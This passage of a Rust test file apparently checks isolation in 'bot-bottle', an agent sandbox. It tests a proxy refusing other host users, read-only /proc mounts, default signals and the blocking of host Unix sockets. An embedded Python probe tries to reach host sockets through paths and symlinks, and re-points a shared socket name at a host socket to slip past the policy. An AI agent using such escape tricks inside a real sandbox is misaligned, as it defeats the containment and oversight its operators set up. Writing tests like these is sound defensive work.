            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&run.stdout).trim(),
            "65534",
            "({who}) {}",
            text(&run)
        );
        let mounts = String::from_utf8_lossy(&out.stdout);
        for entry in ["/proc/sys", "/proc/sysrq-trigger", "/proc/irq", "/proc/bus"] {
            // An entry the bottle's procfs does not have at all (sysrq-trigger, in a user namespace) is fine too.
            if !mounts.contains(&format!("present {entry}")) {
                continue;
            }
            let line = mounts
                .lines()
                .find(|l| l.starts_with(&format!("{entry} ")))
                .unwrap_or_default();
            assert!(
                line.split(' ').nth(1).is_some_and(|o| o.split(',').any(|f| f == "ro")),
                "({who}) {entry}: {mounts}"
            );
        }
    }
}

/// #12: the bottle's host-side listener on 127.0.0.N answered any local user (`nobody` used a root bottle's
/// allowlist, logged under the agent's label). The bottle's own traffic arrives on its in-namespace listener;
/// the host-side address now closes every connection and audits it.
#[test]
fn nobody_else_on_the_host_can_use_a_bottles_proxy() {
    need_namespace!();
    let env = Env::new();
    let out = env.bb(None, &["run", "-d", "--name", "private", "--", "sleep", "600"]);
    assert!(out.status.success(), "{}", text(&out));
    let dir = env.state().join("bot-bottle/private");
    let urls: serde_json::Value = serde_json::from_slice(&std::fs::read(dir.join("urls.json")).unwrap()).unwrap();
    let proxy = urls["proxy"].as_str().unwrap().to_string();
    let curl = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--",
            "curl",
            "-s",
            "-o",
            "/dev/null",
        ])
        .args([
            "-w",
            "%{http_code}",
            "--max-time",
            "10",
            "-x",
            &proxy,
            "http://refused.example/",
        ])
        .output()
        .unwrap();
    let audit = std::fs::read_to_string(dir.join("audit.jsonl")).unwrap_or_default();
    let _ = env.bb(None, &["rm", "-f", "private"]);
    assert_eq!(
        String::from_utf8_lossy(&curl.stdout),
        "000",
        "the proxy answered another user: {}",
        text(&curl)
    );
    assert!(audit.contains("not-the-bottle"), "{audit}");
}

/// The agent starts with every signal at its default and none blocked, whatever its launcher inherited: a launcher
/// started in the background of a non-interactive shell ignores SIGINT, and its agent ignored Ctrl-C too.
#[test]
fn the_agent_starts_with_default_signals_whatever_the_launcher_inherited() {
    need_namespace!();
    let env = Env::new();
    let bin = env!("CARGO_BIN_EXE_bot-bottle");
    let script =
        format!("trap '' INT QUIT HUP TERM USR1; exec {bin} run --rm -- grep -E '^Sig(Ign|Blk)' /proc/self/status");
    let out = Command::new("sh")
        .args(["-c", &script])
        .current_dir(env.work())
        .env("XDG_STATE_HOME", env.state())
        .env("HOME", env.dir.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(said.lines().count(), 2, "{}", text(&out));
    // The standard signals (1-31); 32 and 33 are the C library's own, which it sets up in every process itself.
    for line in said.lines() {
        let mask = u64::from_str_radix(line.split_whitespace().last().unwrap(), 16).unwrap();
        assert_eq!(mask & 0x7fff_ffff, 0, "the agent inherited {line}");
    }
}

/// A host listener on a Unix socket that counts connections; `0o777` so that an unprivileged bottle could connect
/// if nothing but file permissions stood in the way.
fn host_socket(path: &Path) -> Arc<std::sync::atomic::AtomicUsize> {
    let listener = std::os::unix::net::UnixListener::bind(path).unwrap();
    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let count = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let c = Arc::clone(&count);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            c.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            drop(stream);
        }
    });
    count
}

/// #12: the workspace is a bind of the host directory, so a host process's Unix socket there (git's fsmonitor
/// daemon, a dev server) answered the bottle. Now only sockets made inside the bottle, or named in `share_sockets`,
/// can be connected: by relative or absolute path or through a link, present at launch or made after it. The
/// shared socket and the bottle's own answer, so the refusals are the warden's, not a broken probe.
#[test]
fn issue_12_host_unix_sockets_are_refused_unless_shared() {
    need_namespace!();
    const SCRIPT: &str = r#"
import os, socket, time
def tryc(p):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(p)
        return "connected"
    except OSError as e:
        return "errno%d" % e.errno
print("present-rel", tryc(".git/fsmonitor--daemon.ipc"))
print("present-abs", tryc(os.getcwd() + "/.git/fsmonitor--daemon.ipc"))
print("link", tryc("link.sock"))
open("ready", "w").close()
for _ in range(200):
    if os.path.exists("late.sock"):
        break
    time.sleep(0.05)
print("late", tryc("late.sock"))
print("shared", tryc("dev.sock"))
# The shared name re-pointed by the agent at a host socket it may not reach.
os.rename("dev.sock", "dev.sock.orig")
os.symlink(".git/fsmonitor--daemon.ipc", "dev.sock")
print("relinked", tryc("dev.sock"))
srv = socket.socket(socket.AF_UNIX)
srv.bind("inner.sock")
srv.listen(1)
print("inner", tryc("inner.sock"))
import threading
threaded = []
t = threading.Thread(target=lambda: threaded.append(tryc("inner.sock")))
t.start()
t.join()
print("thread", threaded[0])
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    print("dgram created")
except OSError as e:
    print("dgram errno%d" % e.errno)
"#;
    for (who, user) in [("root", None), ("nobody", Some(65534))] {
        let env = Env::new();
        let work = env.work();
        std::fs::create_dir(work.join(".git")).unwrap();
        let present = host_socket(&work.join(".git/fsmonitor--daemon.ipc"));
        let shared = host_socket(&work.join("dev.sock"));
        std::os::unix::fs::symlink(work.join(".git/fsmonitor--daemon.ipc"), work.join("link.sock")).unwrap();
        // A socket made on the host after the bottle started: when the bottle says it is ready.
        let late_path = work.join("late.sock");
        let ready = work.join("ready");
        let late = std::thread::spawn(move || {
            for _ in 0..400 {
                if ready.exists() {
                    return Some(host_socket(&late_path));
                }
                std::thread::sleep(std::time::Duration::from_millis(25));
            }
            None
        });
        let policy = env.dir.path().join("sockets.toml");
        std::fs::write(&policy, "[bottle]\nshare_sockets = [\"dev.sock\"]\n").unwrap();
        if let Some(uid) = user {
            env.open_to(uid);
        }
        let out = env.bb(
            user,
            &[
                "run",
                "--rm",
                "--policy",
                policy.to_str().unwrap(),
                "--",
                "python3",
                "-c",
                SCRIPT,
            ],
        );
        let all = format!("({who}) {}", text(&out));
        assert!(out.status.success(), "{all}");
        let stdout = String::from_utf8_lossy(&out.stdout);
        let eacces = format!("errno{}", libc::EACCES);
        for (step, want) in [
            ("present-rel", eacces.as_str()),
            ("present-abs", &eacces),
            ("link", &eacces),
            ("late", &eacces),
            ("shared", "connected"),
            ("relinked", &eacces),
            ("inner", "connected"),
            // The warden is asked by a thread that does not lead its process: descriptors are its process's.
            ("thread", "connected"),
        ] {
            assert!(stdout.lines().any(|l| l == format!("{step} {want}")), "{step}: {all}");
        }
        assert!(stdout.contains(&format!("dgram errno{}", libc::EPERM)), "{all}");
        let late = late.join().unwrap().expect("the bottle never said it was ready");
        assert_eq!(present.load(std::sync::atomic::Ordering::SeqCst), 0, "{all}");
        assert_eq!(late.load(std::sync::atomic::Ordering::SeqCst), 0, "{all}");
        assert_eq!(shared.load(std::sync::atomic::Ordering::SeqCst), 1, "{all}");
        // Said at launch (what was found and not shared) and at the refusal, where the user is looking.
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(
                "cannot connect to 1 Unix socket of host processes in the workspace: .git/fsmonitor--daemon.ipc;"
            ),
            "{all}"
        );
        assert!(
            stderr.contains("refused a connection to the Unix socket .git/fsmonitor--daemon.ipc"),
            "{all}"
        );
    }
}
